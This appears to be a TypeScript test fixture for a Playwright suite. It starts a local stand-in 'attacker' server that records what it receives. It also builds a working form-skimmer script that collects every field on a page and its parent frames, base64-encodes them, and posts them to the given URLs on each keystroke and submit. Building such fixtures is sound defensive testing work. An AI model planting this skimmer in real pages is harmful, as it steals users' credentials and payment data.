/** Somebody else's host, and the script that skims a page for it, as those of 2017 did. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';

export interface Attacker {
  url: string;
  /** Each request: its address and its body. */
  stolen(): Buffer;
  /** Forgets what came so far. */
  clear(): void;
  /** Answers under `path`, as a script. */
  serve(path: string, script: string): void;
  close(): Promise<void>;
}

export async function startAttacker(): Promise<Attacker> {
  let stolen: Buffer[] = [];
  const scripts = new Map<string, string>();
  const server = createServer(async (request, response) => {
    stolen.push(Buffer.from(`${request.method} ${request.url}\n`));
    for await (const chunk of request) stolen.push(chunk);
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'content-type': 'text/javascript',
    });
    response.end(scripts.get(request.url ?? ''));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://localhost:${port}`,
    stolen: () => Buffer.concat(stolen),
    clear() {
      stolen = [];
    },
    serve: (path, script) => void scripts.set(path, script),
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Name of the global that shows that a skimmer ran. */
const SKIMMED = '__skimmed';

/**
 * Posts every field of each document that it can reach, in base64, to each of `urls`: what is there
 * already, and again with every key.
 */
export const skimmer = (urls: readonly string[]): string => `
;(() => {
  window.${SKIMMED} = true;
  const documents = [window, parent, top].flatMap((view) => {
    try { return [view.document]; } catch { return []; }
  });
  const skim = () => {
    const fields = documents.flatMap((page) => [...page.querySelectorAll('input,select,textarea')]);
    const haul = btoa(encodeURIComponent(fields.map(({ name, value }) => name + '=' + value).join('&')));
    for (const url of ${JSON.stringify(urls)})
      fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: haul }).catch(() => {});
  };
  for (const page of documents)
    for (const type of ['input', 'submit']) page.addEventListener(type, skim, true);
  skim();
})();`;

/** Whether a skimmer ran in any document of the page. */
export async function isSkimmed(page: Page): Promise<boolean> {
  const marks = page.frames().map((frame) =>
    // A frame that is gone has nothing to say any more.
    frame.evaluate((name) => Reflect.get(window, name) === true, SKIMMED).catch(() => false),
  );
  return (await Promise.all(marks)).includes(true);
}
